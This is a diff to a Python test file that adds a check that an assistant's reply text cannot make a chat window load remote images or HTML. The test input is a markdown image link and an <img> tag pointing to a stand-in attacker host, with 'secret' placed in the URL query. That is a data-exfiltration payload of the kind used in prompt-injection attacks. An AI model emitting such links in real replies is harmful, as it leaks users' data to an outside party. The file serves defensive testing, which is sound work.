@@ -12,6 +12,7 @@ from __future__ import annotations
 import contextlib
 import json
 import os
+import re
 import socket
 import subprocess
 import sys
@@ -456,6 +457,20 @@ def test_a_page_title_cannot_write_markdown_into_the_sources_list() -> None:
     listed = protocol.sources_markdown([evil, Source(2, "y", "Ok", "https://example.org/a b")])
     assert "![" not in listed and "](https://evil" not in listed and "javascript:" not in listed
     assert "- [2] [Ok](https://example.org/a%20b)" in listed
+
+
+def test_the_models_text_cannot_make_the_window_load_an_image_or_html() -> None:
+    said = 'Bogotá [1] ![pixel](https://evil.example/?q=secret) <img src="https://evil.example/x"> \\<b>'
+    plain = protocol.reply_text(_answer(said, []))
+    defuser = protocol.Defuser()
+    pieces = ["Bogotá [1] !", "[pixel](https://evil.example/?q=secret) <", 'img src="https://evil.example/x"> \\']
+    pieces.append("<b>")
+    streamed = "".join(defuser.feed(p) for p in pieces) + defuser.flush()
+    for text in (plain, streamed):
+        assert "![" not in text and not re.search(r"(?<!\\)(\\\\)*<", text), text  # no image, no unescaped "<"
+        assert text.startswith("Bogotá [1] !\\[pixel]"), text  # shown as written, citation intact
+    assert streamed == plain
+    assert protocol.Defuser().feed("Wow!") == "Wow" and protocol.defused("a*b* [c](d)") == "a*b* [c](d)"
 
 
 # --- the real model, the real command ---------------------------------------------------------------------------
